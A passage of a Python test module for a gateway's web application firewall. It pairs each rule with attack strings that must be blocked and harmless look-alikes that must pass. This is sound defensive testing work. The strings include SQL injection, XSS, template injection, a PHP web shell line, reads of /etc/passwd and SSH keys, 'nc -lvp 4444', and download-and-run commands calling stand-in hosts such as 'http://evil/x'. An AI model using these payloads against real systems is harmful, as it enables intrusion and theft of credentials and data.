"""Every built-in WAF rule with at least one request it must catch and one close look-alike it must let through.

Each case names the request part the payload goes into: `q` (a query argument), `h:NAME` (a header), `path`,
`prompt` (a chat message), `json` (a top-level JSON field outside the prompt), `cookie`, or a special builder.
"""

from __future__ import annotations

import json
import time
from urllib.parse import quote

import pytest

from gateway.waf import tautology
from gateway.waf.model import WafSpec
from gateway.waf.packs import builtin_packs, compile_waf, pack_rules
from gateway.waf.parts import RequestView, from_raw_http
from gateway.waf.transforms import quote_split_words, remove_markdown_code_marks

CHAT = "/v1/chat/completions"
BASE_HEADERS = [
    ("host", "gw"),
    ("user-agent", "openai-python/1.40"),
    ("content-type", "application/json"),
    ("authorization", "Bearer sk-test"),
]


def request(where: str, text: str) -> RequestView:
    payload = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
    headers = list(BASE_HEADERS)
    path, query = CHAT, ""
    if where == "q":
        query = "x=" + quote(text, safe="")
    elif where == "rawq":
        query = text
    elif where == "qname":
        query = quote(text, safe="") + "=1"
    elif where.startswith("h:"):
        name = where[2:]
        headers = [(k, v) for k, v in headers if k != name] + [(name, text)]
    elif where == "path":
        path = text
    elif where == "prompt":
        payload["messages"][0]["content"] = text
    elif where == "system":
        payload["messages"].insert(0, {"role": "system", "content": text})
    elif where == "json":
        payload["user"] = text
    elif where == "cookie":
        headers.append(("cookie", "session=" + text))
    elif where == "method":
        return RequestView(method=text, path=path, headers=headers, body=b"{}", payload={}, route="chat")
    elif where == "ctype":
        headers = [(k, v) for k, v in headers if k != "content-type"] + [("content-type", text)]
    elif where == "headers":  # N extra headers
        headers += [(f"x-h{i}", "v") for i in range(int(text))]
    elif where == "depth":
        node: object = "leaf"
        for _ in range(int(text)):
            node = {"k": node}
        payload["extra"] = node
    elif where == "keys":
        payload["extra"] = {f"k{i}": i for i in range(int(text))}
    elif where == "bodysize":
        payload["messages"][0]["content"] = "a" * int(text)
    elif where == "noua":
        headers = [(k, v) for k, v in headers if k != "user-agent"]
    elif where == "multipart":  # the Content-Disposition parameters of a one-part multipart body
        body = f"--b\r\nContent-Disposition: form-data; {text}\r\n\r\nv\r\n--b--\r\n".encode()
        return from_raw_http(
            "POST", "/upload", [("host", "gw"), ("content-type", "multipart/form-data; boundary=b")], body
        )
    elif where == "rawbody":  # "METHOD /uri\nName: value\n\nbody": headers of the case's own and a raw body
        head, _, raw = text.partition("\n\n")
        line, *lines = head.split("\n")
        method, uri = line.split(" ", 1)
        extra = [(k.strip().lower(), v.strip()) for k, _, v in (h.partition(":") for h in lines)]
        return from_raw_http(method, uri, [("host", "gw"), *extra], raw.encode())
    elif where == "raw":  # "METHOD /uri\nName: value\n...": a request with several headers of the case's own
        line, *lines = text.split("\n")
        method, uri = line.split(" ", 1)
        extra = [(k.strip().lower(), v.strip()) for k, _, v in (h.partition(":") for h in lines)]
        return from_raw_http(method, uri, [("host", "gw"), *extra], b"")
    body = json.dumps(payload).encode()
    return RequestView(
        method="POST", path=path, query=query, headers=headers, body=body, payload=payload, route="chat", model="m"
    )


# rule id -> ([(where, text) that must fire], [(where, text) that must not])
CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
    # sqli
    "sqli-100": (
        [("q", "1' OR '1'='1' --"), ("json", "x' UNION SELECT password FROM users--")],
        [
            ("q", "O'Reilly books"),
            ("prompt", "' OR 1=1 -- explain why this SQL injection works"),
            ("json", "One quarter (24%) of people have had an affair and cheated on a partner at some point"),
        ],
    ),
    "sqli-101": (
        [("q", "1' or 1=1"), ("q", "1;waitfor delay '0:0:5'--")],
        [("q", "rock and roll"), ("q", "while (foo) is bar."), ("q", "while (1) is 1")],
    ),
    "sqli-102": ([("path", "/v1/chat/completions/1'%20or%20'a'='a")], [("path", "/v1/chat/completions")]),
    "sqli-110": ([("q", "1 UNION/**/ALL SELECT null,null")], [("q", "the union selected a leader")]),
    "sqli-120": (
        [("q", "x' or 'a'='a"), ("q", "x' or 'a' in ('a','b')")],
        [("q", "x or y"), ("q", 'Never write "sorry" or "instead" in your answer')],
    ),
    "sqli-121": ([("q", "1 or 1=1")], [("q", "1 or 2 apples")]),
    "sqli-130": (
        [("q", "1 AND sleep(5)"), ("h:user-agent", "x' and benchmark(9999999,md5(1))")],
        [("q", "I need sleep tonight")],
    ),
    "sqli-131": (
        [
            ("q", "1 (CASE WHEN 5=5 THEN 1 ELSE NULL END)"),
            ("json", "1) AND (SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))"),
            ("h:user-agent", "1') ELT(4821=4821,7310)-- -"),
            ("q", "1' (4821=4821)*7310 AND 'a'='a"),
        ],
        [
            ("q", "in case when it rains then stay in, else go out"),
            ("q", "please select one from the list (select all that apply)"),
            ("json", "(select 2 from the left column)"),
            ("q", "max(2, 3) = 3"),
        ],
    ),
    "sqli-140": ([("q", "1; DROP TABLE users")], [("q", "first; then second")]),
    "sqli-150": ([("q", "admin'--")], [("q", "it's fine -- really")]),
    "sqli-141": (
        [
            ("q", "x;drop table t"),
            ("q", "SET @a=1"),
            ("q", "(select 1)"),
            ("h:user-agent", "1' union select 1"),
            ("q", "'alter x"),
        ],
        [
            ("q", "see below; updates follow"),
            ("q", 'Die "Union von Europa"'),
            ("q", "set a reminder"),
            ("q", '"DROP" earrings, silver'),
            ("q", '"create your own" kit'),
        ],
    ),
    "sqli-142": (
        [("q", "x OR (7319=8742)"), ("q", "1 OR 1#"), ("q", "DROP t;--")],
        [("q", "left or (right) way"), ("q", "fish and")],
    ),
    "sqli-143": ([("q", "MAX("), ("q", "FLOOR ("), ("q", "date]=(")], [("q", "max (of two)"), ("q", "left (north)")]),
    "sqli-144": ([("q", "4294967296"), ("q", "2.2250738585072011e-308")], [("q", "4294967"), ("q", "2.5e-3")]),
    "sqli-151": (
        [("q", "x'#"), ("q", "ops@example.org';"), ("q", "';")],
        [("q", "item #4"), ("q", "boots size 10';"), ("q", "soap 2 '#")],
    ),
    "sqli-160": ([("q", "select name from users where 1")], [("q", "please select one from the list")]),
    "sqli-170": (
        [("q", "1 and @@version"), ("q", "x from information_schema.tables")],
        [("q", "version 2 of the schema"), ("q", "User(jdoe),Photo(url_48x48)")],
    ),
    "sqli-180": (
        [
            ("q", "x' and ascii(substr(pw,1,1))>64"),
            ("q", "bob'or'x"),
            ("q", "'or(k rlike 3)--"),
            ("q", "ann@example.org' and name regexp name--"),
            ("q", "\\' or flag (id);"),
            ("q", "' or anything"),
            ("q", "C' XOR 'D"),
            ("q", "or token=="),
        ],
        [
            ("q", "rock 'n' roll"),
            ("q", "swingin' like a pendulum do"),
            ("q", 'table 30" or 36"'),
            ("q", '"red" AND "blue"'),
            ("q", '"OR" pendant'),
            ("q", "gettin' and keepin' friends"),
            ("q", 'shop_7">Ceramics</a>'),
        ],
    ),
    "sqli-181": ([("q", "ascii(substring((select pw),1,1))")], [("q", "substring of a word")]),
    "sqli-182": ([("q", "1 order by 3--")], [("q", "in order to buy")]),
    "sqli-183": (
        [("q", "1 /*!50000union*/ select"), ("q", "select 0x616263"), ("q", "x=0x41414141")],
        [("q", "a /* comment */ b"), ("q", "http:0xABCDEF"), ("q", "0x41414141A9FEA9FE")],
    ),
    "sqli-184": (
        [
            ("q", "a<>b"),
            ("q", "x rlike y"),
            ("q", "id != 3"),
            ("q", "||"),
            ("q", "x=||(k=!1)"),
            ("q", "1 xor 1"),
            ("q", "' xor sleep(5)--"),
            ("qname", "XOR"),
            ("q", "x' or y is not null--"),
            ("q", "x' or a sounds like 'a'--"),
        ],
        [
            ("q", "likely yes"),
            ("q", "11!=11"),
            ("q", "88213||sort=||page=3"),
            ("q", "7|12|||AB||C|||"),
            ("q", "How do xor filters improve lookup efficiency"),
            ("q", "It helps me sleep with calming sounds like rain"),
            ("q", "The inventor of the fire hydrant is unknown due to a fire"),
        ],
    ),
    "sqli-194": (
        [
            ("q", "' union select 1"),
            ("q", "x' union/**/all"),
            ("q", "a'or?--"),
            ("q", "\\'and"),
            ("q", "'''or"),
            ("q", '"1 or 1-'),
            ("q", "or 88"),
            ("q", "and '5'x"),
            ("q", "1' or"),
        ],
        [
            ("q", "''or"),
            ("q", 'Die "Union von Europa"'),
            ("q", "bob's or alice's"),
            ("q", "and 5 more"),
            ("q", "rock 'n' roll or jazz"),
            ("q", "'a' 'b' or"),
        ],
    ),
    "sqli-193": (
        [("q", "1’ OR ’1’=’x’#"), ("q", "admin‘--"), ("q", "x´ union select 1"), ("q", "a＇;drop table t")],
        [("q", "it’s fine"), ("q", "the ‘best’ one"), ("q", "5′ tall")],
    ),
    "sqli-192": (
        [
            ("q", "1=1"),
            ("q", "' or 'a'='a"),
            ("q", "x' or 2>1--"),
            ("q", "42 like 42"),
            ("q", "1 is not 2"),
            ("q", "11!=1"),
            ("q", "' or 'abc'=0 -- "),
            ("q", "'x' like 'X%'"),
            ("q", "1 or 1 /*c*/=/**/ 1"),
        ],
        [
            ("q", "11!=11"),
            ("q", "123<456"),
            ("q", "x1=1"),
            ("q", "'a' = 'b'"),
            ("q", "'1' not regexp '1'"),
            ("q", "version 1.2=1.20a"),
            ("q", "'a' like 'b%'"),
        ],
    ),
    "sqli-185": (
        [("q", "group_concat(password)"), ("q", "space(5)"), ("q", "user()"), ("q", "left(pw,1)"), ("q", "div (7, 2)")],
        [
            ("q", "left (north) side"),
            ("q", "User(jdoe),Photo(url)"),
            ("q", "two space(s) left"),
            ("q", "the div (box)"),
        ],
    ),
    "sqli-186": (
        [
            ("q", "1 as x from users"),
            ("q", "'{\"a\":1}' ? 'a'"),
            ("q", "user'collate nocase--"),
            ("q", "1 except select 2"),
            ("q", "0unionselectfrom"),
            ("q", "x having max(id) > 1"),
            ("q", "execute php"),
            ("q", "1;exec @s"),
            ("q", "x'; exec('sel'+'ect 1')--"),
            ("q", "1; EXEC dbo.proc 1"),
            ("q", "x from mysql.user"),
            ("q", "1 from `db`.`users`"),
        ],
        [
            ("q", "Protect the country from harm. What if it fails?"),
            ("q", "WARN access attempt from 10.0.0.23, token expired"),
            ("q", "How do AI agents plan and execute tasks?"),
            ("q", "find the file and execute it"),
            ("q", "as far from here"),
            ("q", "user'collate foo"),
            ("q", "what's up? 'a'"),
            ("q", "the trade union selected two delegates from Leeds"),
            ("q", '<?xpacket begin="?" id="W5M0MpCehiHzreSzNTczkc9d"?>'),
        ],
    ),
    "sqli-187": (
        [("q", "'1'='1"), ("q", "b '-'7"), ("q", "' * 1"), ("q", "p' - 'q"), ("q", "1'*col-'0"), ("q", "('cmd');")],
        [
            ("q", "it's"),
            ("cookie", '[["AKsRol96","x=="]]'),
            ("q", '12" - walnut frame'),
            ("q", '"silk scarf" -polyester -acrylic'),
            ("q", "ROCK-N'-ROLL"),
            ("q", "{{ d|date_format:'%m %d' }}"),
            ("q", 'LAMP 3/4"-1/2" SHADE'),
            ("q", "{'key':['value1','value2']}"),
            ("json", '["a", "b", "c"]'),
        ],
    ),
    "sqli-188": ([("q", "xp_cmdshell"), ("q", "`users`")], [("q", "xp points"), ("q", "use `git log` here")]),
    "sqli-189": ([("qname", "user[$ne]"), ("qname", "id[$regex]")], [("qname", "user[name]")]),
    "sqli-190": (
        [("q", "');(--#\"=);<>|&*');(--#\"=);<>")],
        [
            ("q", "hello (world) = fine"),
            ("q", "/shop?q=a&b=c&d=e&f=g&h=i&j=k&l=m&n=o&p=q&r=s&t=u&v=w&x=y"),
            ("q", "1|2||3|||4||5|6|7|8|9|10|11|12|13|14"),
            ("q", '"wool coat" -a -b -c -d -e -f -g -h -i -j -k -l -m -n'),
        ],
    ),
    "sqli-191": ([("q", "'abc")], [("q", "abc"), ("q", "boots 10';")]),
    # xss
    "xss-100": (
        [
            ("q", "<script>alert(1)</script>"),
            ("q", 'style=x:expression(alert(1))">'),
            ("q", '<?xml version="1.0"?><svg onload="alert(1)"></svg>'),
        ],
        [
            ("q", "1 < 2 and 3 > 2"),
            ("q", "style=color:red;background:url(https://example.com/x)"),
            ("q", '<?xpacket begin="?" id="W5M0"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'),
        ],
    ),
    "xss-110": ([("q", "%3Cscript%3E"), ("h:referer", "<script src=//x>")], [("q", "scripted reply")]),
    "xss-120": ([("q", "<img src=x onerror=alert(1)>")], [("q", "<b>bold</b>")]),
    "xss-121": ([("q", '" onmouseover=alert(1) x="')], [("q", '"quoted" words')]),
    "xss-122": ([("q", " onload=alert(1)"), ("q", '"onzoom=')], [("q", "going onwards = good"), ("q", "aGk/onafe=")]),
    "xss-130": (
        [("q", "jav&#x09;ascript:alert(1)"), ("q", "data:text/html;base64,PGI+eDwvYj4=")],
        [("q", "see the javascript docs"), ("q", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB")],
    ),
    "xss-131": ([("q", "ja&tab;vascript&colon;alert(1)")], [("q", "java script tutorial")]),
    "xss-192": ([("q", "(![]+[])[+!+[]]")], [("q", "a[0] + b[1]")]),
    "xss-140": (
        [("q", "<iframe src=//evil>"), ("q", "<svg>"), ("q", '<?xml version="1.0"?><svg><iframe src=//x>')],
        [("q", "an iframe is an element"), ("q", '<?xml version="1.0"?><svg width="10"></svg>')],
    ),
    "xss-150": (
        [("q", "document.cookie"), ("q", "x;alert(1)")],
        [("q", "the cookie document"), ("q", "\u00bcalert(1)")],
    ),
    "xss-160": (
        [
            ("q", "<a href=x>"),
            ("q", "<x>"),
            ("q", '<a href="javascript:x">'),
            ("q", '<a href="docs"'),
            ("q", '<a href="javascript&#58;x">y</a>'),
            ("q", '<span class="x" style="x">'),
            ("q", "<order><id>1</id></order>"),
            ("q", '<?xml version="1.0"?><order><x:a x:onload="b"/></order>'),
            ("q", '<?xml version="1.0"?><doc><a href="javascript:x">'),
        ],
        [
            ("q", "a < b"),
            ("q", 'see <a href="https://example.com/a?b=c">this</a>.'),
            ("q", "</p>"),
            ("q", "-->"),
            ("q", 'read <a href="/docs/faq.html">the FAQ</a>'),
            ("q", '<span class="note">Bonjour</span><br />'),
            ("q", '<table width="80%" border="0"><tr><td>1</td></tr></table>'),
            ("q", '<?xml version="1.0" encoding="UTF-8"?><order><id>12345</id><note/></order>'),
            ("q", '<?xpacket begin="?"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF lang="en"></rdf:RDF>'),
        ],
    ),
    "xss-193": ([("q", "-->")], [("q", "a -> b")]),
    "xss-194": ([("q", '" in valueOf='), ("q", "'  infoo.bar=")], [("q", '"in" is a word')]),
    "xss-195": (
        [("h:x-data", '<!ENTITY xxe SYSTEM "file:///etc/passwd">'), ("q", "!ENTITY % p SYSTEM")],
        [("q", "an entity in the system")],
    ),
    "xss-170": (
        [
            ("q", "width:expression(alert(1))"),
            ("q", "{{constructor.constructor('alert(1)')()}}"),
            ("q", "<% if True %>49<% endif %>"),
            ("q", "<%= 7*7 %>"),
        ],
        [("q", "an expression of joy"), ("q", "Hello {{username}}"), ("q", "<%=title%>"), ("q", "{{ user.name }}")],
    ),
    "xss-180": (
        [("q", '"><b'), ("q", "</i><svg"), ("q", "<?xml version='1.0'?><o><id>\"><script>")],
        [("q", 'say "hi"'), ("q", 'shop_7">Ceramics</a>'), ("q", '<?xml version="1.0"?><o><id>1</id></o>')],
    ),
    "xss-190": ([("path", "/v1/chat/completions/<svg/onload=alert(1)>")], [("path", "/v1/models")]),
    "xss-191": ([("q", "<f o r m")], [("q", "<- arrow")]),
    # lfi
    "lfi-100": ([("q", "%2e%2e%2fetc"), ("path", "/v1/%2e%2e/%2e%2e/etc/passwd")], [("q", "1.2.3")]),
    "lfi-110": ([("q", "../../etc/hosts"), ("h:x-file", "..\\..\\boot.ini")], [("q", "wait... what/why")]),
    "lfi-120": (
        [("q", "/etc/passwd"), ("q", "C:\\Windows\\win.ini"), ("q", "../../.env"), ("q", "/app/.env"), ("q", ".env")],
        [("q", "etc. and so on"), ("q", "How do I make git ignore my .env file?")],
    ),
    "lfi-130": ([("path", "/.git/config"), ("path", "/.env")], [("path", "/.well-known/security.txt")]),
    "lfi-140": (
        [("path", "/backup.sql"), ("q", "db.sql.gz"), ("path", "/get/dump%2Erdb")],
        [("path", "/v1/chat/completions"), ("q", "rdb snapshots and AOF")],
    ),
    "lfi-150": ([("q", "/etc/shadow"), ("q", "file:///etc/x")], [("q", "etc/ is a folder")]),
    "lfi-160": ([("path", "/v1/x/proc/self/environ")], [("path", "/v1/processes/1")]),
    # rce
    "rce-100": (
        [
            ("q", "x; cat /etc/passwd"),
            ("q", "a | id"),
            ("q", ";$a cat $a test.txt"),
            ("q", "a; sh$XX -c id"),
            ("q", "data://text/plain;base64,Y2F0IC9ldGMvcGFzc3dkOyBpZA=="),  # its payload: cat /etc/passwd; id
            ("q", "@{[qx{whoami}]}"),
            ("q", "{,ifconfig}"),
            ("q", "a`sleep 60`"),
            ("q", "x; `id` y"),
            ("q", "```id\nx\n```"),  # a fence whose "language" prints by itself is run
        ],
        [
            ("q", "cats; dogs"),
            ("q", "price; $5 each"),
            ("q", "data://text/plain;base64,SSBsb3ZlIFBIUAo="),
            ("q", "How do I call /users/{id} with DELETE?"),  # a URL template's placeholder
            ("q", "Can you review this?\n```python\nimport hashlib\nh = hashlib.md5(p).hexdigest()\n```\nThanks"),
            ("json", "What does `git reset --hard HEAD~1` do to my changes?"),
            ("q", "Is there a way to make `rm` ask first, like `rm -i` does?"),
        ],
    ),
    "rce-101": (
        [
            ("q", "report\nenv;"),
            ("q", "x\nwhoami"),
            ("rawq", "x=%0aid"),
            ("rawq", "x=%0a%20cat%20/etc/passwd"),
            ("json", "127.0.0.1\r\nls -la"),
            ("q", "a\nsleep 5"),
            ("q", "a\n/usr/bin/curl http://evil/x"),
        ],
        [
            ("q", "Steps:\nfind the file\nid like to know"),
            ("q", "My cat\ncat food is great"),
            ("q", "columns:\nid\nname"),
            ("q", "env vars\nenv is set"),
            ("q", "I need more\nsleep 8 hours"),
            ("q", "Which one?\nWhoami is a command"),
            ("json", "def f():\n    id = 5\nenv: prod"),
            ("q", "Total is $50\nless $5 coupon"),
            ("q", "Exercises:\nhead / shoulders / knees"),
            ("q", "Options for the tool\ntype --help for usage"),
            ("q", "Today I want to\nsleep 8h"),
            ("q", "columns:\nname\nemail\nid"),
            ("json", "step 1: build\nls -la dist/ to check"),
        ],
    ),
    "rce-151": (
        [("q", "'wh'oami"), ("q", '"w"get localhost'), ("q", "x; c'a't /etc/passwd"), ("q", "'i'p a")],
        [
            ("q", "O'Keefe's cat"),
            ("q", 'the "ip" field'),
            ("q", 'That\'s two "O"s in goose'),
            ("q", "don't ping me"),
            ("q", "I'd like you to roleplay as a customer returning a product"),
        ],
    ),
    "rce-153": (
        [("q", "~+"), ("q", "~-1"), ("q", "~+/.ssh/id_rsa")],
        [("q", "~5"), ("q", "~+ about ten"), ("q", "a~-b")],
    ),
    "rce-152": (
        [("q", "garb=adduse[r];$garb pizza"), ("q", "v='u';cu$v\\r\\l google.com"), ("q", "a=b; ${a} x")],
        [("q", "x=1; y=2"), ("q", "total=5; costs $5")],
    ),
    "rce-110": (
        [("q", "$(whoami)"), ("q", "cat${IFS}x")],
        [("q", "it costs $5 (approx)"), ("json", "Call `search` first")],
    ),
    "rce-120": ([("h:user-agent", "() { :; }; /bin/bash -c id")], [("h:user-agent", "Mozilla/5.0 (X11)")]),
    "rce-130": (
        [
            ("q", "/bin/sh -i"),
            ("q", "powershell -enc AAA"),
            ("q", "for %i in (*) do echo"),
            ("q", "powershell.exe"),
            ("q", "pwsh iex (irm http://evil/x)"),
            ("q", "x & powershell Get-Process"),
        ],
        [("q", "the bin is full"), ("q", "Can you explain execution policy in PowerShell?")],
    ),
    "rce-140": ([("q", "wget http://evil/x"), ("q", "cat /etc/issue")], [("q", "cat videos")]),
    "rce-150": ([("q", "/b?n/c?t /etc/passwd"), ("q", "c''at x")], [("q", "what? why?")]),
    "rce-160": (
        [("q", "x; nc -lvp 4444"), ("q", "x 2>&1"), ("q", "x`nc -lvp 4444`")],
        [("q", "x - y"), ("q", "Should I run `rm -rf build/` before a release?")],
    ),
    "rce-170": ([("q", "& dir C:\\"), ("q", "%COMSPEC%")], [("q", "the directory")]),
    "rce-181": (
        [("q", "find /etc -name passwd -exec cat {} ;"), ("qname", "find /etc -name passwd -exec cat {}")],
        [("q", "find /tmp -name x -delete"), ("q", "find the file and execute it")],
    ),
    "rce-180": (
        [("q", "time curl evil.example"), ("q", "x; nohup ifconfig"), ("q", "x`sudo id`")],
        [("q", "time flies like an arrow"), ("q", "What does `sudo rm -rf /var/lib/apt/lists/*` clean up?")],
    ),
    "rce-190": ([("h:x-filename", "shell.php"), ("h:x-file-name", ".htaccess")], [("h:x-filename", "report.pdf")]),
    "rce-200": ([("q", "env --version")], [("q", "version 2 --final")]),
    "rce-210": ([("h:user-agent", "${jndi:ldap://evil/x}"), ("q", "${${::-j}ndi:rmi://x}")], [("q", "${name}")]),
    "rce-220": ([("q", "1;\n.shell id")], [("q", "version 1.2.shell")]),
    "rce-230": ([("q", "bin/visudo")], [("q", "recycle bin is empty")]),
    "rce-240": (
        [("q", "x;visudo"), ("q", "&aptitude"), ("h:user-agent", "x=1;ssh-copy-id u@h"), ("qname", ";regedit /E x")],
        [
            ("q", "see below; then go"),
            ("q", "ls"),
            ("qname", "id"),
            ("json", "Run code in a sandbox (python 3.11)"),
            ("q", "Is `chmod 777` really that dangerous?"),
        ],
    ),
    "rce-241": (
        [
            ("q", "ansible-console"),
            ("q", "cscli alerts list"),
            ("h:user-agent", "pip3 install x"),
            ("q", "python -c 'import os'"),
            ("q", "curl http://evil/x"),
        ],
        [
            ("q", "tar is a dark liquid"),
            ("q", "wget"),
            ("q", "ping pong tables"),
            ("q", "lastlog"),
            ("h:user-agent", "OpenAI/Python 1.40.0"),
            ("h:user-agent", "curl/8.4.0"),
            ("q", "python 3.12 is out"),
        ],
    ),
    "rce-250": ([("q", "IF X%1==X/? GOTO Help"), ("q", "if /i a==b foo")], [("q", "if a is b then c")]),
    "rce-260": (
        [("q", "\r\nMAIL FROM:<a@b.com>"), ("q", "\r\na001 EXAMINE INBOX"), ("q", "\r\nRETR 1")],
        [("q", "mail from: me"), ("q", "line one\nline two")],
    ),
    "rce-270": (
        [("q", "$[2+2]"), ("q", "{l,-lh}s"), ("q", "!-1"), ("q", "c{a,oun}t"), ("q", "{,cd,/etc,}")],
        [("q", '{"a": 1}'), ("q", "wow!"), ("q", "/[a-z]{1,5}/"), ("q", "\\d{2,}")],
    ),
    "rce-280": (
        [("q", "$_SERVER['test'];"), ("q", 'process["env"]'), ("q", "@{[system 'id']}")],
        [("cookie", '[["AKsRol96","x=="]]'), ("q", "pick ['a'] or ['b']")],
    ),
    "rce-195": (
        [("h:x-filename", "wp-config.php.bak"), ("h:x-filename", "settings. php"), ("h:x-filename", ".boto")],
        [("h:x-filename", "report.pdf"), ("h:x-filename", "my-settings-photo.png")],
    ),
    # scanners, protocol attacks
    "scanner-100": ([("h:user-agent", "sqlmap/1.7")], [("h:user-agent", "curl/8.0")]),
    "scanner-110": ([("h:x-callback", "abc.oast.pro")], [("h:x-callback", "example.com")]),
    "scanner-120": ([("noua", "")], [("h:user-agent", "client/1")]),
    "proto-attack-100": (
        [
            ("q", "x\r\nSet-Cookie: a=b"),
            ("q", "foo\r\nLocation: http://evil.example/"),
            ("q", "barGET /a.html HTTP/1.1\r\nSomething: x"),  # a request smuggled in: any header after it
            ("h:x-note", "data%0dInjected: splitting"),  # a header carries no text, so any name counts
        ],
        [
            ("q", "x y"),
            ("q", "Is this compose file ok?\nservices:\n  db:\n    image: postgres:16"),
            ("q", "CI says:\nfatal: could not read Username for 'https://github.com'"),
            ("json", "Traceback (most recent call last):\n  File \"app.py\", line 3\nKeyError: 'id'"),
        ],
    ),
    "proto-attack-110": ([("q", "x\r\nGET /admin HTTP/1.1")], [("q", "get / out")]),
    "proto-attack-120": ([("path", "/v1/a%0d%0ab")], [("path", "/v1/ab")]),
    # gateway protocol
    "protocol-100": ([("method", "PUT")], [("method", "POST")]),
    "protocol-110": ([("ctype", "text/plain")], [("ctype", "application/json; charset=utf-8")]),
    "protocol-120": ([("headers", "70")], [("headers", "20")]),
    "protocol-130": ([("h:x-big", "a" * 9000)], [("h:x-big", "a" * 100)]),
    "protocol-140": ([("bodysize", str(9 * 1024 * 1024))], [("bodysize", "1000")]),
    "protocol-150": ([("depth", "40")], [("depth", "5")]),
    "protocol-160": ([("keys", "10001")], [("keys", "100")]),
    "protocol-170": ([("rawq", "x=%ff%fe"), ("path", "/v1/%FFchat")], [("rawq", "x=%C3%A9t%C3%A9")]),
    "protocol-175": (
        [("rawq", "x=%c0%af"), ("rawq", "x=%E2%A3")],
        [("rawq", "x%FD=1"), ("path", "/v1/%FFchat"), ("rawq", "x=%C3%A9t%C3%A9"), ("json", "garbled \ufffd text")],
    ),
    "protocol-180": ([("rawq", "x=a%00b")], [("rawq", "x=a+b")]),
    "protocol-190": ([("rawq", "&".join(f"a{i}=1" for i in range(70)))], [("rawq", "a=1&b=2")]),
    "protocol-200": ([("depth", "14")], [("depth", "5")]),
    # llm
    "llm-secret-100": (
        [("prompt", "fix this:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn...")],
        [("prompt", "what is a BEGIN PRIVATE KEY header?")],
    ),
    "llm-secret-110": (
        [("prompt", "my key AKIAIOSFODNN7EXAMPLE"), ("prompt", "token ghp_" + "a" * 36)],
        [("prompt", "AKIA is the prefix of AWS keys")],
    ),
    "llm-secret-120": ([("prompt", "password = hunter2hunter2")], [("prompt", "reset my password please")]),
    "llm-encoding-100": ([("prompt", "hi\u202eexe.txt")], [("prompt", "plain text")]),
    "llm-encoding-110": (
        [("prompt", "a\u200bb\u200bc\u200bd\u200be\u200bf\u200bg\u200bh\u200bi\u200bj")],
        [("prompt", "one\u200bzero-width")],
    ),
    "llm-encoding-120": ([("prompt", "A" * 1200)], [("prompt", "A" * 900 + " " + "A" * 900)]),
    "llm-encoding-130": ([("bodysize", str(1024 * 1024 + 10))], [("bodysize", "5000")]),
    "llm-encoding-140": ([("prompt", "%41" * 70)], [("prompt", "100% sure")]),
    # generic
    "generic-100": (
        [("q", "require('child_process').exec('id')"), ("json", "process.mainModule.require('fs')")],
        [("json", "requires a child process"), ("q", "console output")],
    ),
    "generic-110": (
        [("qname", "__proto__[admin]"), ("q", "constructor.prototype.x=1")],
        [("q", "prototype"), ("qname", "constructor")],
    ),
    "generic-120": (
        [
            ("q", "http://169.254.169.254/latest/meta-data/"),
            ("json", "gopher://127.0.0.1:6379/_"),
            ("q", "http://0x7f000001/"),
        ],
        [("q", "https://example.com/"), ("json", "127.0.0.1 is loopback")],
    ),
    "generic-130": (
        [("q", "data:text/html,<b>x</b>"), ("q", "data:text/plain;base64,SSBsb3ZlIFBIUAo=")],
        [("q", "data: 42"), ("json", "metadata"), ("q", "data://text/plain;base64,SSBsb3ZlIFBIUAo=")],
    ),
    "generic-140": (
        [("q", "Kernel.exec('id')"), ("json", "while(true);")],
        [("q", "while (waiting)"), ("json", "Process data")],
    ),
    "generic-150": (
        [
            ("q", "{{7*7}}"),
            ("json", "{% import os %}"),
            ("q", "{{7*'7'}}"),
            ("q", "{{_self.env.registerUndefinedFilterCallback('exec')}}"),
            ("h:user-agent", "${pageContext.request.getSession().getAttribute('admin')}"),
            ("json", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
        ],
        [
            ("q", "{{username}}"),
            ("json", "50% off {today}"),
            ("q", "Hello {{ user.name }}, your order {{order.id}} shipped"),
            ("h:x-install-dir", "${HOME}/bin"),
            ("q", "<#> tag (see {x})"),
        ],
    ),
    "generic-160": ([("qname", "user__password__startswith")], [("qname", "user_name"), ("qname", "__init__")]),
    # php
    "php-100": (
        [("q", "<?php system($_GET['c']); ?>"), ("json", "<?= `id` ?>")],
        [("q", "<?xml version='1.0'?>"), ("q", "why?")],
    ),
    "php-110": (
        [("h:x-filename", "shell.php5..."), ("h:x-filename", "a.phtml"), ("q", "sess_d8ew88tqmabdcokhumchy8htqm")],
        [("h:x-filename", "photo.jpg"), ("q", "session")],
    ),
    "php-120": (
        [("q", "allow_url_include=1"), ("json", "auto_prepend_file=/tmp/x")],
        [("q", "a=b"), ("json", "engine: v8")],
    ),
    "php-130": ([("q", "$_GET['x']"), ("json", "${'sys'.'tem'}")], [("q", "$5 each"), ("json", "cost_$_total")]),
    "php-140": (
        [("q", "php://filter/convert.base64-encode/resource=index.php"), ("json", "phar://upload/x.jpg")],
        [
            ("q", "php is a language"),
            ("json", "https://x.example/a.zip"),
            ("q", "data://text/plain;base64,SSBsb3ZlIFBIUAo="),
        ],
    ),
    "php-150": (
        [("q", "system('id')"), ("json", "FOObase64_decode ($x)"), ("q", 'passthru/**/("id")')],
        [("q", "the system (of rules)s"), ("json", "file a complaint")],
    ),
    "php-160": (
        [("q", "array_map('system', ['id'])"), ("path", "/v1/str_repeat(1)"), ("q", "is_array()"), ("q", "date_add (")],
        [("q", "str_x"), ("json", "array (of)"), ("q", "sodium_add_to_recipe(foo)")],
    ),
    "php-170": (
        [("q", "$a(1)"), ("q", "(system)(ls)"), ("json", '"system"(id)')],
        [("q", "$5 (cheap)"), ("q", 'a "dog" (cat)')],
    ),
    "php-180": (
        [("q", 'O:8:"stdClass":1:{s:1:"a";i:2;}'), ("cookie", 'a:1:{s:1:"x";i:1;}')],
        [("q", "O:8 ratio"), ("json", "a:1")],
    ),
    # rfi
    "rfi-100": (
        [("q", "http://198.51.100.7/shell.txt"), ("json", "https://[2001:db8::1]/x.php")],
        [("q", "https://example.com/a"), ("json", "version 10.0.0.1")],
    ),
    "rfi-110": ([("rawq", "_CONF[path]=https://x.example")], [("rawq", "page=2"), ("rawq", "link=https://x.example")]),
